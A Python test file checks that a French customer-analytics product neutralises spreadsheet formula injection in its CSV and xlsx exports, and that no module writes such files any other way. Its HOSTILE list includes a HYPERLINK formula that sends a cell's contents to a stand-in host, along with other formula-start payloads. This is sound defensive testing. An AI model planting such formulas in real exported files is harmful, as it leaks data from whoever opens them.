"""Every CSV or spreadsheet the product writes goes through the one formula-safe writer.

Each writer is given cells a spreadsheet would run (=HYPERLINK, =2+5, +x, @x, -x, tab, carriage return)
and its file is read back; then the source is searched for any other way of writing such a file.
"""

import ast
import csv
import io
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import numpy as np
import pytest
from python_calamine import CalamineWorkbook

import ecoute
from ecoute.accounts.models import Organization
from ecoute.analytics.btyd.score_file import write_score_file
from ecoute.customers.demo import export, people, simulate
from ecoute.customers.models import Customer
from ecoute.lib.exports import Column, ColumnKind, conventions_for, csv_chunks, workbook_file
from ecoute.lib.formula_safe import FORMULA_STARTS
from tests.customers.importing import run_import, write_csv

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"voir")', "=2+5", "+x", "@SUM(A1:A2)", "-x", "\t=1", "\r=1"]
NEGATIVE_NUMBER = re.compile(r"-[0-9][0-9\u00a0 ]*(?:[.,][0-9]+)?")
ROOT = Path(ecoute.__file__).parent


def _unsafe(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run: starting with a formula character, and not a negative number."""
    return [c for row in rows for c in row if c[:1] in FORMULA_STARTS and not NEGATIVE_NUMBER.fullmatch(c)]


def _read(path: Path, delimiter: str, encoding: str = "utf-8-sig") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def test_the_rejects_file_neutralises_formulas_and_imports_back_as_it_was(
    tmp_path: Path, org: Organization
) -> None:
    # Given customers whose cells a spreadsheet would run, rejected for a bad e-mail address
    lines = ["N° client;Nom;E-mail;Téléphone;Note"]
    lines += [f"C{n};{text};faux;+33 6 12 34 56 78;-15,00" for n, text in enumerate(HOSTILE[:5])]
    source = write_csv(tmp_path / "clients.csv", "\n".join(lines) + "\n")
    rejects = tmp_path / "rejets.csv"

    # When they are imported, the valid rows kept and the others set aside
    run_import("customers", str(source), "--org", org.slug, "--skip-invalid", "--rejects", str(rejects))

    # Then the rejects file neutralises them, and keeps the negative amount a number
    rows = _read(rejects, ";")
    assert _unsafe(rows) == []
    assert rows[1][1:] == ["'" + HOSTILE[0], "faux", "'+33 6 12 34 56 78", "-15,00", rows[1][-1]]

    # And once the e-mail addresses are fixed (the reason column dropped), it imports as it was
    fixed = [[*row[:2], f"c{n}@exemple.fr", *row[3:5]] for n, row in enumerate(rows[1:])]
    with rejects.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows([rows[0][:5], *fixed])
    run_import("customers", str(rejects), "--org", org.slug)
    customers = Customer.objects.filter(organization=org).order_by("external_id")
    assert [c.last_name for c in customers] == HOSTILE[:5]
    assert {c.phone for c in customers} == {"+33 6 12 34 56 78"}
    assert {c.attributes["Note"] for c in customers} == {"-15,00"}


def test_the_demo_export_neutralises_formulas_and_keeps_amounts_numbers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a simulated customer whose every text is something a spreadsheet would run
    drawn = next(simulate.simulate_customers(1, seed=3))
    texts = iter(HOSTILE * 4)
    hostile = replace(
        drawn,
        ref=next(texts),
        first_name=next(texts),
        last_name=next(texts),
        company=next(texts),
        email=next(texts),
        city=next(texts),
        phone="+33 6 39 98 12 34",
        purchases=[people.Purchase(next(texts), 60, -1500, next(texts), next(texts))],
        acts=[people.Act(next(texts), "review", 90, next(texts), 5, next(texts), next(texts))],
    )

    def one_customer(*_args: object, **_kwargs: object) -> Iterator[people.Customer]:
        yield hostile

    monkeypatch.setattr(export, "simulate_customers", one_customer)

    # When the demo files are exported
    export.export_demo(tmp_path, customers=1, seed=3, today=date(2025, 6, 2))

    # Then no cell of any file would run, and the refund is still the number -15,00
    for name, encoding in export.FILES.values():
        assert _unsafe(_read(tmp_path / name, ";", encoding)) == [], name
    assert _read(tmp_path / "ventes.csv", ";")[1][3] == "-15,00"
    assert _read(tmp_path / "clients.csv", ";", "cp1252")[1][6] == "'+33 6 39 98 12 34"


def test_the_lifetime_scores_file_neutralises_customer_ids_and_keeps_numbers(tmp_path: Path) -> None:
    # Given customer ids read from a transactions file, some a spreadsheet would run
    ids = np.array([text.encode() for text in HOSTILE] + [b"-42", b"C1"])
    values = np.linspace(-2.5, 2.5, ids.size)

    # When the scores file is written
    path = tmp_path / "scores.csv"
    write_score_file(path, ["customer_id", "value"], ids, [(values, 2)])

    # Then the ids would not run (a numeric id stays a number), and negative values stay numbers
    rows = _read(path, ",", "utf-8")
    assert _unsafe(rows) == []
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE] + ["-42", "C1"]
    assert rows[1][1] == "-2.50"


@pytest.mark.parametrize("language", ["fr", "en"])
def test_exported_lists_neutralise_formulas_in_csv_and_xlsx_and_keep_amounts_numbers(language: str) -> None:
    # Given a list whose every text is something a spreadsheet would run, beside a refund
    columns = [Column("=Nom"), Column("Montant", ColumnKind.MONEY, currency="EUR")]
    rows = [[text, Decimal("-15.00")] for text in HOSTILE]
    conventions = conventions_for(language)

    # When it is exported as CSV and as xlsx
    text = b"".join(csv_chunks(rows, columns, conventions, ZoneInfo("Europe/Paris"))).decode("utf-8-sig")
    in_csv = list(csv.reader(io.StringIO(text, newline=""), delimiter=conventions.delimiter))
    with workbook_file(rows, columns, conventions, ZoneInfo("Europe/Paris"), "=Liste") as handle:
        book = CalamineWorkbook.from_filelike(io.BytesIO(handle.read()))
    in_sheet = [[str(cell) for cell in row] for row in book.get_sheet_by_index(0).to_python()]

    # Then no cell of either file would run, headers included, and the refund is still a number
    assert _unsafe(in_csv) == []
    assert _unsafe(in_sheet) == []
    assert {row[1] for row in in_csv[1:]} == {"-15,00" if language == "fr" else "-15.00"}
    assert {row[1] for row in in_sheet[1:]} == {"-15.0"}


# Modules that write files other than CSV or spreadsheets, and why.
OTHER_FILES = {
    "customers/actions.py": "keeps the user's own upload, byte for byte",
    "customers/import_views.py": "serves the rejects file the import wrote through the formula-safe writer",
    "retention/btyd_job.py": "draws the holdout chart as SVG",
    "listening/management/commands/survey.py": "writes a survey as JSON, which no spreadsheet runs",
}
SPREADSHEET_LIBRARIES = {"openpyxl", "xlsxwriter", "odf", "pyexcel", "pandas", "polars", "tablib", "xlwt"}
WRITES_A_FILE = re.compile(
    r"""open\([^)]*["'][wax]b?\+?["']|write_text\(|write_bytes\(|savetxt|tofile\(|text/csv"""
)


def _modules() -> Iterator[tuple[str, str, ast.Module]]:
    for path in sorted(ROOT.rglob("*.py")):
        if "migrations" in path.parts:
            continue
        source = path.read_text()
        yield path.relative_to(ROOT).as_posix(), source, ast.parse(source)


def test_no_module_writes_csv_or_spreadsheets_but_through_the_formula_safe_writer() -> None:
    found = []
    for name, source, tree in _modules():
        if name == "lib/formula_safe.py":
            continue
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in {
                "writer",
                "DictWriter",
                "to_csv",
                "to_excel",
            }:
                found.append(f"{name}:{node.lineno} uses .{node.attr}")
            if isinstance(node, ast.Import | ast.ImportFrom):
                modules = (
                    [alias.name for alias in node.names] if isinstance(node, ast.Import) else [node.module]
                )
                found += [
                    f"{name}:{node.lineno} imports {module}"
                    for module in modules
                    if module and module.split(".")[0] in SPREADSHEET_LIBRARIES
                ]
        uses_helper = "ecoute.lib.formula_safe" in source
        if WRITES_A_FILE.search(source) and not uses_helper and name not in OTHER_FILES:
            found.append(f"{name} writes a file without the formula-safe writer")
    assert found == []
